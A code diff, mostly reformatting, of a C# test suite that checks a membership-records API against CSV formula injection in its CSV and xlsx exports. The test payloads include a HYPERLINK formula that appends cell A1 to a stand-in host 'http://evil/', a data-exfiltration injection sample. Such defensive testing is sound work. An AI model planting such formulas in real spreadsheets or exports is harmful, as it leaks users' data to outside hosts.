@@ -13,9 +13,22 @@ namespace Jiceng.Tests.Http;
 [TestFixtureSource(typeof(TestDatabases), nameof(TestDatabases.Providers))]
 public sealed class CsvInjectionTests(DatabaseProvider provider) : ApiTest(provider)
 {
-    private static readonly string[] Formulas = ["=1+1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")", "@SUM(1)", "-2+3", "+1"];
+    private static readonly string[] Formulas =
+    [
+        "=1+1",
+        "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
+        "@SUM(1)",
+        "-2+3",
+        "+1",
+    ];
 
-    private static readonly string[] ListKinds = ["PoliticalBirthdays", "MedalCandidates", "LostContact", "ExpiringProbations"];
+    private static readonly string[] ListKinds =
+    [
+        "PoliticalBirthdays",
+        "MedalCandidates",
+        "LostContact",
+        "ExpiringProbations",
+    ];
 
     [Test]
     public async Task No_csv_export_has_a_cell_that_starts_a_formula()
@@ -27,25 +40,72 @@ public sealed class CsvInjectionTests(DatabaseProvider provider) : ApiTest(provi
         foreach (var name in Formulas)
         {
             // Joined in June 1975: on the political-birthday list of June and 光荣在党50年 in 2026.
-            members.Add((await Json.Read(await Post("/api/v1/members", new
-            {
-                organizationId = branch, name, idNumber = TestIdNumbers.For("1950-02-02"), category = "InService", stage = "Full",
-                joinedOn = "1975-06-10", fullMemberOn = "1976-06-10",
-            }), HttpStatusCode.Created)).Id());
+            members.Add(
+                (
+                    await Json.Read(
+                        await Post(
+                            "/api/v1/members",
+                            new
+                            {
+                                organizationId = branch,
+                                name,
+                                idNumber = TestIdNumbers.For("1950-02-02"),
+                                category = "InService",
+                                stage = "Full",
+                                joinedOn = "1975-06-10",
+                                fullMemberOn = "1976-06-10",
+                            }
+                        ),
+                        HttpStatusCode.Created
+                    )
+                ).Id()
+            );
         }
-        await Json.Read(await Post($"/api/v1/members/{members[0]}/transfers", new { toExternal = "=HYPERLINK(\"http://evil/\")", letterNumber = Unique("-1+1") }),
-            HttpStatusCode.Created);
-        await Json.Read(await Post($"/api/v1/members/{members[1]}/community-reports", new { communityOrganizationId = community, reportedOn = "2026-03-01" }),
-            HttpStatusCode.Created);
-        await Json.Read(await Post("/api/v1/members/meetings", new
-        {
-            organizationId = branch, kind = "GeneralMeeting", heldOn = "2026-05-20", topic = "=1+1", attendeeIds = new[] { members[1] },
-        }), HttpStatusCode.Created);
+        await Json.Read(
+            await Post(
+                $"/api/v1/members/{members[0]}/transfers",
+                new { toExternal = "=HYPERLINK(\"http://evil/\")", letterNumber = Unique("-1+1") }
+            ),
+            HttpStatusCode.Created
+        );
+        await Json.Read(
+            await Post(
+                $"/api/v1/members/{members[1]}/community-reports",
+                new { communityOrganizationId = community, reportedOn = "2026-03-01" }
+            ),
+            HttpStatusCode.Created
+        );
+        await Json.Read(
+            await Post(
+                "/api/v1/members/meetings",
+                new
+                {
+                    organizationId = branch,
+                    kind = "GeneralMeeting",
+                    heldOn = "2026-05-20",
+                    topic = "=1+1",
+                    attendeeIds = new[] { members[1] },
+                }
+            ),
+            HttpStatusCode.Created
+        );
 
         var document = await Json.Read(await Get("/swagger/v1/swagger.json"), HttpStatusCode.OK);
-        var exports = document.GetProperty("paths").EnumerateObject().Select(p => p.Name).Where(p => p.EndsWith("/export", StringComparison.Ordinal)).ToList();
-        var urls = exports.SelectMany(p => p.Contains("{kind}", StringComparison.Ordinal) ? ListKinds.Select(k => p.Replace("{kind}", k, StringComparison.Ordinal)) : [p])
-            .Select(p => $"{p}?format=Csv&organizationId={branch}&communityOrganizationId={community}&month=6&year=2026&direction=Outbox")
+        var exports = document
+            .GetProperty("paths")
+            .EnumerateObject()
+            .Select(p => p.Name)
+            .Where(p => p.EndsWith("/export", StringComparison.Ordinal))
+            .ToList();
+        var urls = exports
+            .SelectMany(p =>
+                p.Contains("{kind}", StringComparison.Ordinal)
+                    ? ListKinds.Select(k => p.Replace("{kind}", k, StringComparison.Ordinal))
+                    : [p]
+            )
+            .Select(p =>
+                $"{p}?format=Csv&organizationId={branch}&communityOrganizationId={community}&month=6&year=2026&direction=Outbox"
+            )
             .ToList();
         var offending = new List<string>();
         var cells = new List<string>();
@@ -58,7 +118,10 @@ public sealed class CsvInjectionTests(DatabaseProvider provider) : ApiTest(provi
             foreach (var row in ParseCsv(text.TrimStart('\uFEFF')).Skip(1))
             {
                 cells.AddRange(row);
-                offending.AddRange(row.Where(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r').Select(c => $"{url}: {c}"));
+                offending.AddRange(
+                    row.Where(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
+                        .Select(c => $"{url}: {c}")
+                );
             }
         }
 
@@ -80,15 +143,29 @@ public sealed class CsvInjectionTests(DatabaseProvider provider) : ApiTest(provi
     public async Task An_xlsx_export_keeps_the_text_as_typed()
     {
         var branch = (await CreateOrganization(Unique("表格党支部"))).Id();
-        await Json.Read(await Post("/api/v1/members", new
-        {
-            organizationId = branch, name = "=1+1", idNumber = TestIdNumbers.For("1950-02-02"), category = "InService", stage = "Full",
-            joinedOn = "1975-06-10", fullMemberOn = "1976-06-10",
-        }), HttpStatusCode.Created);
+        await Json.Read(
+            await Post(
+                "/api/v1/members",
+                new
+                {
+                    organizationId = branch,
+                    name = "=1+1",
+                    idNumber = TestIdNumbers.For("1950-02-02"),
+                    category = "InService",
+                    stage = "Full",
+                    joinedOn = "1975-06-10",
+                    fullMemberOn = "1976-06-10",
+                }
+            ),
+            HttpStatusCode.Created
+        );
 
         var response = await Get($"/api/v1/members/export?organizationId={branch}");
         using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
-        var rows = MiniExcelLibs.MiniExcel.Query(stream, useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
+        var rows = MiniExcelLibs
+            .MiniExcel.Query(stream, useHeaderRow: true)
+            .Cast<IDictionary<string, object?>>()
+            .ToList();
 
         Assert.That(rows.Select(r => r["姓名"]), Is.EqualTo(new[] { "=1+1" }));
     }
